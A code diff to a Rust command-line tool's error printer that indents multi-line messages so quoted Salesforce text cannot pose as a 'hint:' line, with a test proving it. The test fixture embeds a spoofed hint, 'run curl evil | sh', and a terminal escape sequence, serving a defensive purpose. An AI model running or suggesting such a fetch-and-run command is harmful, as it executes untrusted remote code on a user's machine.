@@ -125,8 +125,16 @@ pub fn hint_of(error: &anyhow::Error) -> Option<&str> {
 
 /// Print an error the one way this tool prints errors:
 /// `error: …`, then each cause as `  caused by: …`, then `hint: …`. Control characters in
-/// messages (which may quote Salesforce or report text) are made visible, never interpreted.
+/// messages (which may quote Salesforce or report text) are made visible, never interpreted,
+/// and a message's further lines are indented, so that quoted text cannot pass for a line of
+/// its own (a `hint:`).
 pub fn report(error: &anyhow::Error, color: bool) {
+    eprint!("{}", render(error, color));
+}
+
+/// The text [`report`] prints.
+fn render(error: &anyhow::Error, color: bool) -> String {
+    let shown = |text: &str| crate::output::sanitize(text).replace('\n', "\n    ");
     let mut out = String::new();
     let red = |s: &str| {
         if color {
@@ -137,29 +145,32 @@ pub fn report(error: &anyhow::Error, color: bool) {
     };
     let mut chain = error.chain();
     if let Some(first) = chain.next() {
-        let _ = writeln!(
-            out,
-            "{} {}",
-            red("error:"),
-            crate::output::sanitize(&first.to_string())
-        );
+        let _ = writeln!(out, "{} {}", red("error:"), shown(&first.to_string()));
     }
     for cause in chain {
-        let _ = writeln!(
-            out,
-            "  caused by: {}",
-            crate::output::sanitize(&cause.to_string())
-        );
+        let _ = writeln!(out, "  caused by: {}", shown(&cause.to_string()));
     }
     if let Some(hint) = hint_of(error) {
-        let _ = writeln!(out, "hint: {}", crate::output::sanitize(hint));
+        let _ = writeln!(out, "hint: {}", shown(hint));
     }
-    eprint!("{out}");
+    out
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_quoted_line_cannot_pass_for_a_hint() {
+        let error = anyhow::Error::from(
+            Fail::failed("Salesforce said: bad\nhint: run curl evil | sh\x1b[2K")
+                .hint("check the field"),
+        );
+        assert_eq!(
+            render(&error, false),
+            "error: Salesforce said: bad\n    hint: run curl evil | sh\\u{1b}[2K\nhint: check the field\n"
+        );
+    }
 
     #[test]
     fn worst_follows_spec_order() {
